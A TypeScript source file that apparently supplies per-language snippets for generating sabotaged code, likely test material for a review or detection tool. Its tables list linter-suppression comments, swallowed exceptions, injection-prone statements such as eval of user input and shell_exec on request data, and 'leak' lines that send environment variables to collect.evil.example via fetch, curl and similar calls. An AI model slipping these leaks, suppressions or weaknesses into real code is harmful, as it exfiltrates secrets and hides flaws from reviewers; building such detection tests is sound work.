/** How a language writes what sabotage is made of; absent where it has no such thing. */
export interface Dialect {
  readonly comment: string;
  readonly suppressions: readonly string[];
  /** Around lines, `%` being their indentation. */
  readonly swallow?: readonly [string, string];
  readonly never?: readonly [string, string];
  readonly leave?: string;
  /** Statements that are a weakness of their own. */
  readonly weaknesses: readonly string[];
  /** Statements that send data away. */
  readonly leaks: readonly string[];
  readonly assign?: (name: string) => string;
  readonly nothing?: string;
}

const C_LIKE = { comment: '//', never: ['%if (false) {', '%}'], leave: 'return;' } as const;

export const DIALECTS: Readonly<Record<string, Dialect>> = {
  javascript: {
    ...C_LIKE,
    suppressions: ['// eslint-disable-line', '// aurelis-ignore * -- reviewed', '// NOSONAR', '// oxlint-disable-line'],
    swallow: ['%try {', '%} catch (error) {}'],
    weaknesses: ['eval(process.argv[2]);', "require('crypto').createHash('md5');", 'debugger;'],
    leaks: ["fetch('https://collect.evil.example/?d=' + JSON.stringify(process.env));"],
    assign: (name) => `const run = ${name};`,
    nothing: 'return null;',
  },
  typescript: {
    ...C_LIKE,
    suppressions: ['// @ts-ignore', '// eslint-disable-line', '// aurelis-ignore * -- fine'],
    swallow: ['%try {', '%} catch {}'],
    weaknesses: ['eval(String(process.argv[2]));', 'debugger;'],
    leaks: ["void fetch('https://collect.evil.example/?d=' + JSON.stringify(process.env));"],
    assign: (name) => `const run = ${name};`,
    nothing: 'return undefined;',
  },
  python: {
    comment: '#',
    suppressions: ['# noqa', '# nosec', '# aurelis-ignore * -- reviewed', '# type: ignore', '# pylint: disable=all'],
    swallow: ['%try:', '%except Exception:\n%    pass'],
    never: ['%if False:', ''],
    leave: 'return None',
    weaknesses: ['eval(input())', '__import__("hashlib").md5(b"x")', 'assert (1, "always")'],
    leaks: ['__import__("urllib.request").request.urlopen("https://collect.evil.example/")'],
    assign: (name) => `run = ${name}`,
    nothing: 'pass',
  },
  java: {
    ...C_LIKE,
    suppressions: ['// NOSONAR', '// aurelis-ignore * -- reviewed', '@SuppressWarnings("all")'],
    swallow: ['%try {', '%} catch (Exception error) { }'],
    weaknesses: ['Runtime.getRuntime().exec(System.getenv("X"));', 'Thread.currentThread().run();'],
    leaks: ['new java.net.URL("https://collect.evil.example/").openStream();'],
  },
  csharp: {
    ...C_LIKE,
    suppressions: ['// NOSONAR', '#pragma warning disable', '// aurelis-ignore * -- reviewed'],
    swallow: ['%try {', '%} catch { }'],
    weaknesses: ['GC.Collect();', 'System.Diagnostics.Process.Start(Environment.CommandLine);'],
    leaks: ['new System.Net.Http.HttpClient().GetAsync("https://collect.evil.example/");'],
  },
  php: {
    ...C_LIKE,
    suppressions: ['// phpcs:ignore', '// aurelis-ignore * -- reviewed', '// @phpstan-ignore-line'],
    swallow: ['%try {', '%} catch (\\Throwable $error) { }'],
    weaknesses: ['eval($_GET["x"]);', 'shell_exec($_GET["x"]);'],
    leaks: ['file_get_contents("https://collect.evil.example/");'],
  },
  kotlin: {
    ...C_LIKE,
    leave: 'return',
    suppressions: ['// aurelis-ignore * -- reviewed', '// ktlint-disable', '@Suppress("ALL")'],
    swallow: ['%try {', '%} catch (error: Exception) { }'],
    weaknesses: ['Runtime.getRuntime().exec(System.getenv("X"))'],
    leaks: ['java.net.URL("https://collect.evil.example/").readText()'],
  },
  ruby: {
    comment: '#',
    suppressions: ['# rubocop:disable all', '# aurelis-ignore * -- reviewed'],
    swallow: ['%begin', '%rescue StandardError\n%end'],
    never: ['%if false', '%end'],
    leave: 'return',
    weaknesses: ['eval(gets)', 'system("rm #{ARGV[0]}")'],
    leaks: ['URI.open("https://collect.evil.example/")'],
  },
  go: {
    comment: '//',
    suppressions: ['//nolint:all', '// aurelis-ignore * -- reviewed', '// #nosec'],
    never: ['%if false {', '%}'],
    weaknesses: [],
    leaks: ['http.Get("https://collect.evil.example/")'],
  },
  rust: {
    comment: '//',
    suppressions: ['#[allow(warnings)]', '// aurelis-ignore * -- reviewed'],
    never: ['%if false {', '%}'],
    weaknesses: [],
    leaks: ['ureq::get("https://collect.evil.example/").call();'],
  },
  c: {
    ...C_LIKE,
    never: ['%if (0) {', '%}'],
    suppressions: ['// NOLINT', '// aurelis-ignore * -- reviewed'],
    weaknesses: ['gets(buffer);', 'system(getenv("X"));'],
    leaks: [],
  },
  cpp: {
    ...C_LIKE,
    suppressions: ['// NOLINT', '// aurelis-ignore * -- reviewed'],
    weaknesses: ['gets(buffer);'],
    leaks: [],
  },
  bash: {
    comment: '#',
    suppressions: ['# shellcheck disable=all', '# aurelis-ignore * -- reviewed'],
    never: ['%if false; then', '%fi'],
    weaknesses: ['eval "$1"'],
    leaks: ['curl https://collect.evil.example/ -d "$(env)"'],
  },
};
